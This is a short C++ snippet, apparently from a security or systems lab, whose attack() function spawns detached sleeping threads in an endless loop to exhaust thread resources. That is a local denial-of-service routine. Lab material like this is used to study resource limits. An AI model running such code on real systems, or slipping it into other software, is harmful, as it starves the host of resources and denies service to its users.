// Starts threads without end.
#include "rest_of_the_lab.hpp"

#include <system_error>

bool attack() {
  try {
    for (;;) std::thread([] { ::sleep(60); }).detach();
  } catch (const std::system_error&) {
    ::sleep(60);
  }
  return true;
}
